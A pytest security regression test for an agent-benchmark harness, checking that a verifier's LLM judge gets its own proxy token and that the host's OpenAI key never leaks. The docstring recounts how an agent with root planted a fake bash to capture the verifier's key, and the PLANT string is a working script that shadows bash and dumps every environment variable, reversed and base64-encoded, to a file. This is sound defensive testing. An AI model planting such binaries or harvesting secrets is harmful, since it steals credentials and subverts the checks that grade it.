"""Hole 4 in a real sandbox: `[verifier.env] JUDGE_KEY = "${OPENAI_API_KEY}"` handed the verifier
this machine's key, in the container the agent had root in; the agent put its own bash in
/usr/local/bin, and the verifier's `exec bash /tests/test.sh` ran it with the key. Now the verifier
gets a token of its own verification and the proxy's URL: the judge still reaches its model, its
calls are counted apart from the agent's, and the key is in no form anywhere."""

from __future__ import annotations

import json
import secrets

import pytest

from tests.conftest import job_dirs, make_agent, only_result, run_bench, write_task
from tests.security.leaks import database_dump, leaks

# the agent leaves a bash of its own ahead of the real one: whatever runs `bash` next hands it
# its environment, which it writes down every way it can
PLANT = """#!/bin/bash
cat > /usr/local/bin/bash <<'PLANTED'
#!/bin/sh
python3 - <<'PY'
import base64, os
with open("/logs/agent/stolen.txt", "a") as out:
    for name, value in sorted(os.environ.items()):
        for text in (value, value[::-1]):
            out.write(f"{name}={text} {base64.b64encode(text.encode()).decode()}\\n")
PY
exec /bin/bash "$@"
PLANTED
chmod +x /usr/local/bin/bash
"""

# an LLM judge: one call through the OpenAI API, in the variables the SDKs read
JUDGE = """python3 - <<'PY'
import json, os, urllib.request
body = {"model": "mock/echo", "messages": [{"role": "user", "content": "grade the work"}]}
request = urllib.request.Request(
    os.environ.get("OPENAI_BASE_URL", "https://api.openai.com/v1") + "/chat/completions",
    data=json.dumps(body).encode(),
    headers={"Authorization": "Bearer " + os.environ["JUDGE_KEY"], "Content-Type": "application/json"},
)
reply = json.load(urllib.request.urlopen(request, timeout=30))
open("/logs/verifier/reward.txt", "w").write("1" if reply["choices"] else "0")
PY
"""


@pytest.mark.docker
def test_the_verifier_gets_a_token_of_its_own_and_the_agents_bash_never_sees_the_key(
    tmp_path, bench_env, bench_database, docker_client
):
    key = "sk-proj-hole4-" + secrets.token_hex(24)
    write_task(
        tmp_path / "tasks",
        "judged",
        test_sh=JUDGE,
        toml='[verifier.env]\nJUDGE_KEY = "${OPENAI_API_KEY}"\n',
        dockerfile="FROM python:3.12-slim\nWORKDIR /app\n",
    )
    make_agent(tmp_path, "plant.sh", PLANT)
    env = {**bench_env, "OPENAI_API_KEY": key}
    done = run_bench(
        ["run", "tasks", "-a", "script:./plant.sh", "--jobs-dir", "jobs", "--save-outputs"],
        env=env,
        cwd=tmp_path,
    )
    (job,) = job_dirs(tmp_path / "jobs")
    found = leaks(
        key,
        folders=[tmp_path / "jobs"],
        texts=[
            ("bench run's output", done.stdout + done.stderr),
            ("the index", database_dump(env, bench_database)),
        ],
    )
    assert found == []
    assert done.returncode == 0, done.stdout + done.stderr
    result = only_result(job)
    # the judge reached its model through the proxy, on a token the agent's bash did see
    assert result["rewards"] == {"reward": 1.0}
    attempt = job / result["rollout_name"]
    stolen = (attempt / "agent" / "stolen.txt").read_text()
    assert "JUDGE_KEY=bf-" in stolen and "OPENAI_BASE_URL=http://127.0.0.1:" in stolen
    # its calls are counted apart from the agent's (a script without a model: none)
    assert result["verifier_usage"]["n_calls"] == 1
    assert result["agent_result"]["usage_source"] == "none"
    logged = (attempt / "trajectory" / "verifier_llm_trajectory.jsonl").read_text().splitlines()
    assert len(logged) == 1 and json.loads(logged[0])
    # and a regrade's verifier gets a token of its own too, its calls counted in its own block
    regraded = run_bench(["regrade", str(job), "--json"], env=env, cwd=tmp_path)
    assert regraded.returncode == 0, regraded.stdout + regraded.stderr
    [block] = json.loads((attempt / "regrade.json").read_text())["regrades"]
    assert block["status"] == "complete" and block["new_reward"] == 1.0
    assert block["verifier_usage"]["n_calls"] == 1
    assert result["verifier_usage"]["n_calls"] == 1  # the run's own stays as it was
    assert leaks(key, folders=[tmp_path / "jobs"], texts=[("bench regrade", regraded.stdout)]) == []
